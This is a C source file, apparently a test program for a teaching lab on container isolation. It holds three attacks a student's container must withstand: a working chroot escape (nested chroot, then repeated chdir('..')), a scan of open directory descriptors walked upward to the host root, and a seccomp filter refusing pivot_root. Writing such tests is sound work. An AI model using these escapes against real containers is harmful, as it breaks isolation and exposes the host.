/*
 * attack.c  what an answer to lab 5 must stand up to; one static program
 *
 *	attack escape		the classic way out of a chroot
 *	attack descriptors	where every open folder leads to, upwards
 *	attack ramfs CMD...	CMD where pivot_root is refused, as on a ramfs
 *
 * The first two run in the container, as its root, and print the names in
 * the folder that they have reached. The third runs on the host.
 *
 * escape: the kernel stops ".." at a process's root and nowhere else. Who is
 * outside of his own root already never meets it: he makes a new one below
 * himself, stays where he is, and climbs.
 * Sources: chroot(2), seccomp(2).
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { HIGHEST_FD = 1023, STEPS = 64 };

static int say(const char *what)
{
	printf("%s: %s\n", what, strerror(errno));
	return 1;
}

/* The names in the folder fd, in order, on one line. */
static int list(const char *who, int fd)
{
	struct dirent **names;
	int n = scandirat(fd, ".", &names, NULL, alphasort);

	if (n < 0)
		return say(who);
	printf("%s", who);
	for (int i = 0; i < n; i++)
		if (strcmp(names[i]->d_name, ".") != 0 &&
		    strcmp(names[i]->d_name, "..") != 0)
			printf(" %s", names[i]->d_name);
	printf("\n");
	return 0;
}

static int escape(void)
{
	int tmp = open("/tmp", O_PATH | O_DIRECTORY | O_CLOEXEC);

	if (tmp < 0 || mkdirat(tmp, ".jail", 0700) < 0)
		return say("mkdir /tmp/.jail");
	if (chroot("/tmp/.jail") < 0) {
		unlinkat(tmp, ".jail", AT_REMOVEDIR);
		return say("chroot");
	}
	for (int i = 0; i < STEPS; i++)
		if (chdir("..") < 0)
			return say("chdir ..");
	unlinkat(tmp, ".jail", AT_REMOVEDIR);
	return list("reached:", AT_FDCWD);
}

/* Upwards from fd; at the top .. is the folder itself. */
static int top_of(int fd)
{
	struct stat here, above;

	fd = openat(fd, ".", O_PATH | O_DIRECTORY | O_CLOEXEC);
	for (int i = 0; fd >= 0 && i < STEPS; i++) {
		int up = openat(fd, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);

		if (up < 0 || fstat(fd, &here) < 0 || fstat(up, &above) < 0)
			return -1;
		close(fd);
		fd = up;
		if (here.st_dev == above.st_dev && here.st_ino == above.st_ino)
			break;
	}
	return fd;
}

static int descriptors(void)
{
	struct stat st;
	char who[32];
	int top;

	for (int fd = 0; fd <= HIGHEST_FD; fd++) {
		if (fstat(fd, &st) < 0 || !S_ISDIR(st.st_mode))
			continue;
		snprintf(who, sizeof(who), "descriptor %d:", fd);
		top = top_of(fd);
		list(who, top);
		close(top);
	}
	return list("working directory:", top_of(AT_FDCWD));
}

static int ramfs(char **command)
{
	struct sock_filter rows[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
			 offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_pivot_root, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EINVAL),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { sizeof(rows) / sizeof(*rows), rows };

	if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) < 0)
		return say("seccomp");
	execv(command[0], command);
	return say(command[0]);
}

int main(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "escape") == 0)
		return escape();
	if (argc == 2 && strcmp(argv[1], "descriptors") == 0)
		return descriptors();
	if (argc > 2 && strcmp(argv[1], "ramfs") == 0)
		return ramfs(argv + 2);
	fprintf(stderr, "attack: escape | descriptors | ramfs CMD...\n");
	return 2;
}
